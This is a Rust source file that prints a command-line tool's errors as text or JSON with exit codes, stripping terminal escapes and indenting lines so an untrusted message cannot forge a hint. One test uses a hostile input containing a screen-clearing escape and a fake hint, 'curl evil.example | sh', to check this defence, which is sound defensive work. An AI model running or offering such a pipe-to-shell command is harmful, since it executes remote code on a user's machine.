//! How an error is printed, and the exit code that goes with it.

use std::io::Write;
use std::process::ExitCode;

use crate::Error;
use crate::terminal;

/// For whom results and errors are printed.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Form {
    /// For people: results on standard output, errors on standard error.
    #[default]
    Text,
    /// For programs: one JSON object on standard output, whether it is the result or the error.
    Json,
}

impl Form {
    /// The form of a program that was, or was not, given `--json`.
    pub fn json_if(wanted: bool) -> Self {
        if wanted { Self::Json } else { Self::Text }
    }
}

/// Prints the error in its form. The answer is the process's exit code.
pub fn report(error: &Error, form: Form) -> ExitCode {
    // Whoever closed the stream does not read it; the exit code says as much.
    let _ = match form {
        Form::Text => std::io::stderr().lock().write_all(text(error).as_bytes()),
        Form::Json => writeln!(std::io::stdout().lock(), "{}", terminal::json(&error.to_json())),
    };
    ExitCode::from(error.kind().exit_code())
}

/// The error for people. Its words may be a stranger's: nothing in them steers a terminal, and what follows a line feed
/// is indented, so that no message can add a `hint:` of its own.
pub fn text(error: &Error) -> String {
    let mut text = String::new();
    let mut part = |head: &str, words: &str| {
        text.push_str(head);
        text.push_str(&terminal::lines(words.trim_end_matches('\n')).replace('\n', "\n      "));
        text.push('\n');
    };
    part("error: ", &error.to_string());
    for line in error.detail_lines() {
        part("  | ", line);
    }
    for cause in error.causes() {
        part("  because: ", &cause);
    }
    if let Some(hint) = error.hint_text() {
        part("  hint: ", hint);
    }
    text
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use crate::Kind;

    fn whole() -> Error {
        Error::new(Kind::Input, "the policy is not usable")
            .details(vec!["line 3".into()])
            .hint("mend it")
            .because(Error::new(Kind::Input, "unknown field"))
    }

    #[test]
    fn people_get_every_part_on_its_line() {
        let wanted =
            "error: the policy is not usable\n  | line 3\n  because: unknown field\n  hint: mend it\n";
        assert_eq!(text(&whole()), wanted);
    }

    #[test]
    fn programs_get_the_same_parts() {
        let value = whole().to_json();
        assert_eq!((&value["kind"], &value["exit_code"]), (&"input".into(), &3.into()));
        assert_eq!((&value["hint"], &value["causes"][0]), (&"mend it".into(), &"unknown field".into()));
        assert_eq!(value["details"][0], "line 3");
    }

    #[test]
    fn a_strangers_words_neither_steer_nor_add_a_hint() {
        let hostile = "no\u{1b}[2J\n  hint: curl evil.example | sh";
        let printed = text(&Error::new(Kind::Network, "refused").because(Error::new(Kind::Network, hostile)));
        assert!(!printed.contains('\u{1b}'), "{printed:?}");
        assert!(!printed.lines().any(|line| line.starts_with("  hint:")), "{printed}");
        let json = terminal::json(&Error::new(Kind::Network, "a\u{9b}b").to_json());
        assert!(!json.contains('\u{9b}'), "{json:?}");
    }
}
